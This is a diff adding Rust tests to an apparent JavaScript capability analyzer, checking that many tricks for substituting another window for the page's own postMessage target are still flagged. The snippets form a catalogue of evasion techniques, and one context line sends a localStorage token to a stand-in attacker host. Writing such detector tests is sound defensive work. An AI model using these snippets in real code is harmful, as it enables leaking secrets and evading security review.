@@ -397,6 +397,80 @@ fn a_message_to_a_window_that_may_be_another_is_told_from_one_to_its_own() {
     }
 }
 
+/// Each way to put another window in place of the own one.
+#[test]
+fn what_is_put_in_place_of_the_own_window_is_not_it() {
+    let posts = |name: &str| format!("{name}.postMessage(d, '*')");
+    let (post, window, own) = (posts("w"), posts("window"), posts("self"));
+    for other in [
+        // A local by the name of a window, or one that is not there.
+        format!("(function (self) {{ var w = typeof self !== 'undefined' ? window : top; {post} }})()"),
+        format!("self = undefined; var w = typeof self !== 'undefined' ? window : top; {post}"),
+        format!("with ({{ window: top }}) {window}"),
+        format!("(function () {{ eval('var window = top'); {window} }})()"),
+        // A variable that is declared again, or given something by no assignment.
+        format!("var w = window; for (var w of [top]) {post}"),
+        format!("(function () {{ var w = window; for (var [w] of [[top]]) {post} }})()"),
+        format!("(function () {{ var w = window; var {{ a: {{ w }} }} = {{ a: {{ w: top }} }}; {post} }})()"),
+        format!("(function () {{ var w = window; eval('w = top'); {post} }})()"),
+        format!("(function () {{ var w = window; {{ function w() {{}} }} {post} }})()"),
+        format!("var w = window; window.w = top; {post}"),
+        format!("var w = window; this.w = top; {post}"),
+        format!("var w = window; Reflect.set(window, 'w', top); {post}"),
+        // A parameter that is given something else too.
+        format!("(function (w) {{ {post}; if (w !== top) arguments.callee(top) }})(window)"),
+        format!("(function (w) {{ arguments[0] = top; {post} }})(window)"),
+        format!("(function (w) {{ var take = () => {{ arguments[0] = top }}; take(); {post} }})(window)"),
+        format!("(function f(w) {{ {post}; [top].forEach(f) }})(window)"),
+        format!("function f(w) {{ {post} }} f(...[top]); f(window)"),
+        format!("function f(w = top) {{ {post} }} f(window); f()"),
+        format!("(function (v, w) {{ {post} }})(...[1, top], window)"),
+        format!("(function (w) {{ {post} }}).call(...[null, top], window)"),
+        // A function that gives another one later.
+        format!(
+            "function o() {{ return top }} function g() {{ g = o; return window }} g(); {}",
+            posts("g()")
+        ),
+        format!("function g(w = top) {{ return w }} g(window); {}", posts("g()")),
+        // A member of the window.
+        format!("Object.defineProperty(window, 'self', {{ value: top }}); {own}"),
+        format!("Object.defineProperties(window, {{ self: {{ get: () => top }} }}); {own}"),
+        format!("Object.assign(window, {{ self: top }}); {own}"),
+        format!("Object.assign(window, JSON.parse(x)); {own}"),
+        format!("Reflect.set(window, 'self', top); {own}"),
+        format!("window.__defineGetter__('self', () => top); {own}"),
+        format!("[window.self] = [top]; {own}"),
+        format!("for (window.self of [top]) {own}"),
+        format!("window[k] = top; {own}"),
+        format!("var p = {{ self: top }}; for (var k in p) window[k] = p[k]; {own}"),
+        format!("delete window.self; {own}"),
+        format!("{{ function self() {{}} }} {own}"),
+        format!("setTimeout('self = top'); {own}"),
+        // What is called of it.
+        format!("window.postMessage = top.postMessage.bind(top); {window}"),
+        format!("var postMessage = top.postMessage.bind(top); {window}"),
+        format!("function postMessage(d, to) {{ take(d) }} {window}"),
+        format!("{{ function postMessage() {{}} }} {window}"),
+        format!("Object.defineProperty(window, 'postMessage', {{ value: take }}); {window}"),
+        // Code in a string may be run by another window.
+        "parent.eval('window.postMessage(secret, \"*\")')".to_owned(),
+        "parent.setTimeout('window.postMessage(secret, \"*\")', 1)".to_owned(),
+    ] {
+        says(&other, Capability::PostMessageAny);
+        let facts = added(&other).facts;
+        assert!(facts.iter().all(|fact| fact.capability != Capability::PostMessageOwn), "{other}");
+    }
+}
+
+#[test]
+fn a_message_to_the_own_window_is_known_in_a_minified_library() {
+    let library = "!function (e, t) { e.lib = t() }(this, function () { var v = 'undefined' != typeof globalThis ? globalThis \
+        : 'undefined' != typeof self ? self : 'undefined' != typeof window ? window : global; return function (t, n) { return \
+        v.addEventListener('message', function (e) { e.source === v && e.data === t && n.shift()() }, !1), function (e) { n.push(e), \
+        v.postMessage(t, '*') } }('lib@' + Math.random(), []) })";
+    says(library, Capability::PostMessageOwn);
+}
+
 #[test]
 fn a_message_to_an_origin_that_was_not_named_before_goes_there() {
     let new = added("w.postMessage(localStorage.getItem('token'), 'https://in.evil.test')");
